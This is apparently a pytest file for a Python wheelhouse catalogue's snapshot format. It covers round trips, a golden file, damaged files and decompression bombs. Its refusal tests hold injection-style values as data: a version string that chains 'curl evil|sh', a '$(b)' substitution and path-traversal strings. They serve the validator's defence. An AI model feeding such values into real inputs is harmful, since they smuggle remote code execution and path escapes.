"""Snapshots: what goes in comes out, for ever; and every way in which such a file can be wrong."""

from __future__ import annotations

import hashlib
import json
import lzma
import os
import random
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest

from tests.catalogue.sites import MODULES, lake, make_wheelhouse
from tests.catalogue.test_store import CONTENT, NEEDS, WHEELS
from tests.wheelmaker import make_wheel
from tumpline.catalogue import snapshot
from tumpline.catalogue.columns import COLUMNS
from tumpline.catalogue.content import Content, FileNote, ModuleNote, View, WheelRow
from tumpline.catalogue.encoding import encode
from tumpline.catalogue.facts import Facts, SiteFacts
from tumpline.catalogue.opening import open_any
from tumpline.catalogue.scan import scan
from tumpline.catalogue.snapshot import MAGIC, content_of, pack, read_head, read_snapshot, unpack
from tumpline.catalogue.store import open_catalogue
from tumpline.catalogue.wheelhouse import LocalWheelhouse
from tumpline.catalogue.writer import write_catalogue
from tumpline.errors import TumplineError
from tumpline.sites import Dummy, ModulePackage
from tumpline.values import Name

GOLDEN = Path(__file__).parent / "data" / "golden-1.tumpline"
FULL = CONTENT._replace(views=(View("lake", "2023", "x86-64-v4", ("v4", "v3")), View("lake", "2023", "v3", ("v3",))))


RAW = pack(FULL)


def code_of(raw: bytes) -> str:
    with pytest.raises(TumplineError) as caught:
        unpack(raw, "there")
    assert caught.value.problems[0].where == "there"
    assert caught.value.problems[0].hint
    return caught.value.code


def with_head(raw: bytes, change: Callable[[dict[str, object]], object]) -> bytes:
    _, start = read_head(raw, "")
    head = json.loads(raw[len(MAGIC) : start])
    change(head)
    return MAGIC + json.dumps(head).encode() + b"\n" + raw[start:]


def rebuilt(columns: dict[str, bytes], **head: object) -> bytes:
    """Return a snapshot with these columns, whole and sealed as a hostile one would be."""
    packed = {name: lzma.compress(plain) for name, plain in columns.items()}
    body = b"".join(packed.values())
    old = json.loads(RAW.split(b"\n")[1])
    old["sha256"] = hashlib.sha256(body).hexdigest()
    old["columns"] = [[name, len(packed[name]), len(columns[name])] for name in columns]
    return MAGIC + json.dumps(old | head).encode() + b"\n" + body


def columns_of(raw: bytes) -> dict[str, bytes]:
    head, start = read_head(raw, "")
    found = {}
    for name, packed, _ in head.columns:
        found[name] = lzma.decompress(raw[start : start + packed])
        start += packed
    return found


class TestRoundTrip:
    def test_the_file_made_from_a_snapshot_is_the_one_it_was_made_from(self, tmp_path: Path) -> None:
        root = tmp_path / "wheelhouse"
        layers = make_wheelhouse(root)
        make_wheel(root / "generic", "cut", "1").write_bytes(b"PK\3\4")
        views = (View("lake", "2023", "x86-64-v4", ("2023/v4", "generic")),)
        house = LocalWheelhouse(layers)
        first = tmp_path / "first.sqlite"
        today = date(2026, 11, 23)
        report = scan(lake(root), house, first, today=today, facts=SiteFacts.known(Facts(MODULES, views=views)))
        with open_catalogue(first) as catalogue:
            raw = pack(content_of(catalogue))
        second = tmp_path / "second.sqlite"
        content, tables = unpack(raw, "")
        write_catalogue(second, content, tables)
        assert tables.identity == report.info.identity
        assert second.read_bytes() == first.read_bytes()
        again = scan(lake(root), house, second, today=today, facts=SiteFacts.known(Facts(MODULES, views=views)))
        assert not again.changed, "a scan on top of it has nothing to read"

    def test_all_kinds_of_values(self) -> None:
        content, tables = unpack(pack(FULL), "")
        assert tables.identity == encode(FULL).identity
        assert sorted(content.wheels, key=repr) == sorted(WHEELS, key=repr)
        for field in Content._fields:
            if field not in ("wheels", "modules"):
                assert getattr(content, field) == getattr(FULL, field), field
        assert set(content.modules) == set(MODULES)

    def test_every_field_is_known_here(self) -> None:
        """A new field must go into snapshots, too: into ``tables`` with a default, or into columns of a new form."""
        assert Content._fields == (
            *("site", "grade", "date", "made_by", "sources", "layers", "wheels", "dummies", "modules", "pythons"),
            *("notes", "module_notes", "depth", "fingerprint", "views"),
        )
        assert len(WheelRow._fields) == 11
        assert len(FileNote._fields) == 7

    def test_the_same_content_gives_the_same_bytes(self, tmp_path: Path) -> None:
        raws = []
        for number in (1, 2):
            shuffled = list(WHEELS)
            random.Random(number).shuffle(shuffled)
            path = tmp_path / f"{number}.sqlite"
            content = FULL._replace(wheels=shuffled)
            write_catalogue(path, content, encode(content))
            with open_catalogue(path) as catalogue:
                raws.append(pack(content_of(catalogue)))
        assert raws[0] == raws[1]

    def test_a_catalogue_without_wheels(self) -> None:
        empty = FULL._replace(wheels=())
        assert unpack(pack(empty), "")[0].wheels == ()

    def test_opened_it_answers_as_the_file_does(self, tmp_path: Path) -> None:
        plain, packed = tmp_path / "c.sqlite", tmp_path / "c.tumpline"
        write_catalogue(plain, FULL, encode(FULL))
        packed.write_bytes(pack(FULL))
        with open_any(plain) as one, open_any(packed) as other:
            assert one.info == other.info
            assert list(one.rows()) == list(other.rows())
            assert (one.notes(), one.views(), one.modules()) == (other.notes(), other.views(), other.modules())


class TestForEver:
    """The golden file was written once, and must be read by every tumpline from now on."""

    def test_the_golden_file(self) -> None:
        raw = GOLDEN.read_bytes()
        assert hashlib.sha256(raw).hexdigest() == "4ea2e3512a41b6da99b7cf6e48a18adec298dd61d2bb434f2a5e5811e6470a53", (
            "never change this file: it stands for those out there"
        )
        content, _ = unpack(raw, "")
        assert (content.site, content.grade, content.date, content.depth) == ("lake", "scanned", "2026-11-23", "names")
        assert sorted(content.wheels, key=repr) == sorted(WHEELS, key=repr)
        assert content.layers == ("v4", "v3")
        assert set(content.modules) == set(MODULES)
        assert content.notes == FULL.notes
        assert content.views == FULL.views
        assert content.dummies == FULL.dummies

    def test_its_head_is_read_without_unpacking(self) -> None:
        head = json.loads(GOLDEN.read_bytes().split(b"\n")[1])
        assert (head["site"], head["grade"], head["date"], head["made-by"]) == (
            *("lake", "scanned", "2026-11-23", "tumpline 0"),
        )
        assert (head["wheels"], head["projects"]) == (6, 3)

    def test_an_identity_of_another_scheme_is_not_compared(self) -> None:
        raw = with_head(RAW, lambda head: head.update({"identity-scheme": 1, "identity": "sha256:0"}))
        assert unpack(raw, "")[0].site == "lake"

    def test_a_key_of_a_later_tumpline_is_passed_over(self) -> None:
        columns = columns_of(RAW)
        columns["tables"] = json.dumps(json.loads(columns["tables"]) | {"later": [1]}).encode()
        assert unpack(rebuilt(columns), "")[0].site == "lake"


class TestWrongFiles:
    @pytest.mark.parametrize(
        ("raw", "code"),
        [
            (b"", "not-a-snapshot"),
            (b"SQLite format 3\0", "not-a-snapshot"),
            (b"tumpline snapshot 2\n{}\n", "snapshot-newer"),
            (MAGIC, "snapshot-damaged"),
            (MAGIC + b"{", "snapshot-damaged"),
            (MAGIC + b"[]\n", "snapshot-damaged"),
            (MAGIC + b"{}\n", "snapshot-damaged"),
            (MAGIC + b"[" * 60_000 + b"\n", "snapshot-damaged"),
            (MAGIC + b" " * 70_000 + b"\n", "snapshot-damaged"),
        ],
    )
    def test_heads(self, raw: bytes, code: str) -> None:
        assert code_of(raw) == code

    @pytest.mark.parametrize(
        "change",
        [
            {"site": "other"},
            {"grade": "listed"},
            {"date": "2030-01-01"},
            {"made-by": "tumpline 9"},
            {"identity": "sha256:0"},
            {"wheels": 5},
            {"wheels": True},
            {"wheels": -1},
            {"projects": 4},
            {"sha256": "0" * 64},
            {"site": "a\u001bb"},
            {"columns": []},
            {"columns": [["tables", 1]]},
        ],
        ids=str,
    )
    def test_a_head_that_says_something_else(self, change: dict[str, object]) -> None:
        assert code_of(with_head(RAW, lambda head: head.update(change))) == "snapshot-damaged"

    def test_cut_and_longer(self) -> None:
        raw = RAW
        for end in range(0, len(raw), 7):
            assert code_of(raw[:end]) in ("snapshot-damaged", "not-a-snapshot")
        assert code_of(raw + b"\0") == "snapshot-damaged"

    def test_flipped_bytes(self) -> None:
        chance = random.Random(3)
        codes: set[str] = set()
        for _ in range(300):
            harmed = bytearray(RAW)
            harmed[chance.randrange(len(RAW))] ^= 1 << chance.randrange(8)
            try:
                content, _ = unpack(bytes(harmed), "there")
            except TumplineError as error:
                codes.add(error.code)
            else:
                # A bit of the identity's scheme, which then can not be checked.
                assert content.wheels == unpack(RAW, "")[0].wheels
        assert codes <= {"snapshot-damaged", "not-a-snapshot", "snapshot-newer", "snapshot-too-large"}

    @pytest.mark.parametrize(
        ("name", "harm"),
        [
            (name, harm)
            for name in COLUMNS
            for harm in (b"", b"\n", b"\xff\n", b"-1\n" * 6, b"99\n" * 6, b"\xd9\xa3\n" * 6, b"[" * 50_000)
            # These can be times, which no identity covers.
            if (name, harm) not in {("time", b"-1\n" * 6), ("time", b"99\n" * 6), ("nanosecond", b"99\n" * 6)}
        ],
    )
    def test_columns_that_make_no_sense(self, name: str, harm: bytes) -> None:
        columns = columns_of(RAW)
        if columns[name] != harm:
            assert code_of(rebuilt(columns | {name: harm})) == "snapshot-damaged"

    @pytest.mark.parametrize(
        "change",
        [
            {"layers": ("..", "v3", "v4")},
            {"layers": ("v4", "v3", "a/../../b")},
            {"layers": ("v4", "v3", "/etc")},
            {"layers": ("v4", "v3", "c:\\windows")},
            {"layers": ("v4", "v3", "a\nb")},
            {"layers": ("v4", "v3", "")},
            {"site": "a\tb"},
            {"date": "../../x"},
            {"date": "2026-99-99"},
            {"sources": ("a\nb",)},
            {"modules": (ModulePackage("2023", "arrow", "1; curl evil|sh #", "3.11", Name("pyarrow"), "1"),)},
            {"modules": (ModulePackage("2023", "arrow", "1", "3.11", Name("pyarrow"), "1\nerror: no"),)},
            {"module_notes": (ModuleNote("2023", "arrow", "1", "read", ("gcc/12 && x",)),)},
            {"module_notes": (ModuleNote("2023", "arrow", "1", "read"), ModuleNote("2023", "arrow", "1", "table"))},
            {"dummies": (Dummy(Name("b"), "$(b)"),)},
            {"dummies": (Dummy(Name("b"), "b"), Dummy(Name("b"), "c"))},
            {"pythons": (("2023", "abc"),)},
            {"pythons": (("2023", "3.11.5"), ("2023", "3.11.5"))},
            {"views": (View("lake\n", "2023", "v4", ("v4",)),)},
            {"notes": (FileNote("v3", "x\ty", "stray", "c", "w"),)},
            {"notes": (FileNote("v3", "x", "stray", "c", "w"), FileNote("v3", "x", "refused", "c", "w"))},
            {"wheels": (WheelRow(Name("b"), "1", "v3", "py3-none-any", "", "b"),) * 2},
            {"date": "٢٠٢٦-١١-٢٣"},
            {"views": (View("lake", "2023", "v4", ("../x",)),)},
            {"wheels": (WheelRow(Name("b"), "../../1", "v3", "py3-none-any", "", "b"),)},
            {"wheels": (WheelRow(Name("b"), "1\t2", "v3", "py3-none-any", "", "b"),)},
            {"wheels": (WheelRow(Name("b"), "1", "v3", "py3-none-any/x", "", "b"),)},
            {"wheels": (WheelRow(Name("b"), "1-2-3", "v3", "py3-none-any", "", "b"),)},
            {"wheels": (WheelRow(Name("b"), "1", "v3", "py3-none-any", "", "c"),)},
            {"wheels": (WheelRow(Name("a/b"), "1", "v3", "py3-none-any", "", "a/b"),)},
            {"dummies": (Dummy(Name("../b"), "b"),)},
            {"wheels": (WheelRow(Name("b"), "1", "v3", "py3-none-any", "", "b", (), 2**63),)},
            {"notes": (FileNote("v3", "x", "stray", "c", "w", 2**63),)},
            {"notes": (FileNote("v3", "x", "stray", "c", "w", 1, 2**63),)},
        ],
        ids=str,
    )
    def test_values_that_no_wheelhouse_has(self, change: dict[str, object]) -> None:
        """Whole, sealed, with the right identity: the values themselves are refused, when read and when written."""
        content = FULL._replace(**change)  # type: ignore[arg-type]  # one keyword of any kind
        with pytest.raises(TumplineError) as caught:
            pack(content)
        assert caught.value.code == "not-exportable"
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(snapshot, "check_content", lambda content: None)
            raw = pack(content)
        assert code_of(raw) == "snapshot-damaged"

    def test_a_time_out_of_range(self) -> None:
        columns = columns_of(RAW)
        columns["time"] = b"9999999999999\n" + columns["time"].partition(b"\n")[2]
        assert code_of(rebuilt(columns)) == "snapshot-damaged"

    def test_something_behind_a_column(self) -> None:
        head, start = read_head(RAW, "")
        first = head.columns[0][1]
        body = RAW[start : start + first] + b"\0\0\0\0" + RAW[start + first :]
        table = json.loads(RAW[len(MAGIC) : start])
        table["columns"][0][1] += 4
        table["sha256"] = hashlib.sha256(body).hexdigest()
        assert code_of(MAGIC + json.dumps(table).encode() + b"\n" + body) == "snapshot-damaged"


class TestBombs:
    def test_more_than_is_stated_is_not_unpacked(self) -> None:
        columns = columns_of(RAW)
        raw = rebuilt(columns | {"build": b"\n" * 50_000_000})
        head = json.loads(raw.split(b"\n")[1])
        assert len(raw) < 20_000
        for row in head["columns"]:
            if row[0] == "build":
                row[2] = 6
        assert code_of(MAGIC + json.dumps(head).encode() + raw[raw.index(b"\n", len(MAGIC)) :]) == "snapshot-damaged"

    def test_more_than_a_catalogue_can_have_is_not_even_begun(self) -> None:
        raw = with_head(RAW, lambda head: head.update(columns=[["tables", 100, 2**28 + 1]]))
        assert code_of(raw) == "snapshot-too-large"
        assert code_of(with_head(RAW, lambda head: head.update(wheels=2_000_001))) == "snapshot-too-large"

    def test_values_are_counted_before_they_are_made(self) -> None:
        columns = columns_of(RAW)
        assert code_of(rebuilt(columns | {"tags-named": b"\n" * 50_000_000})) == "snapshot-damaged"
        lists = b'{"notes": [' + b"[]," * 30_000_000 + b"[]]}"
        assert code_of(rebuilt(columns | {"tables": lists})) == "snapshot-damaged"
        assert code_of(rebuilt(columns | {"digests": b"x" * 32 * 7})) == "snapshot-damaged"
        assert code_of(rebuilt(columns | {"pythons": b"3 " * 1000 + b"\n" * 6})) == "snapshot-damaged"

    def test_a_dictionary_that_takes_all_memory(self) -> None:
        columns = columns_of(RAW)
        raw = rebuilt(columns)
        head, start = read_head(raw, "")
        filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30}]
        body = lzma.compress(columns["tables"], filters=filters) + raw[start + head.columns[0][1] :]
        length = len(body) - (len(raw) - start - head.columns[0][1])
        table = json.loads(raw[len(MAGIC) : start])
        table["columns"][0][1] = length
        table["sha256"] = hashlib.sha256(body).hexdigest()
        assert code_of(MAGIC + json.dumps(table).encode() + b"\n" + body) == "snapshot-damaged"


class TestReading:
    def test_missing(self, tmp_path: Path) -> None:
        with pytest.raises(TumplineError) as caught:
            read_snapshot(tmp_path / "nowhere")
        assert caught.value.code == "snapshot-missing"

    def test_what_never_ends(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "pipe")
        for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path):
            with pytest.raises(TumplineError) as caught:
                read_snapshot(path)
            assert caught.value.code == "cannot-read"

    def test_too_large(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        path = tmp_path / "x.tumpline"
        path.write_bytes(MAGIC + b" " * 100)
        monkeypatch.setattr(snapshot, "LARGEST", 100)
        with pytest.raises(TumplineError) as caught:
            read_snapshot(path)
        assert caught.value.code == "snapshot-too-large"


def test_needs_are_told_apart() -> None:
    assert {row.needs for row in unpack(RAW, "")[0].wheels} == {*NEEDS, None}
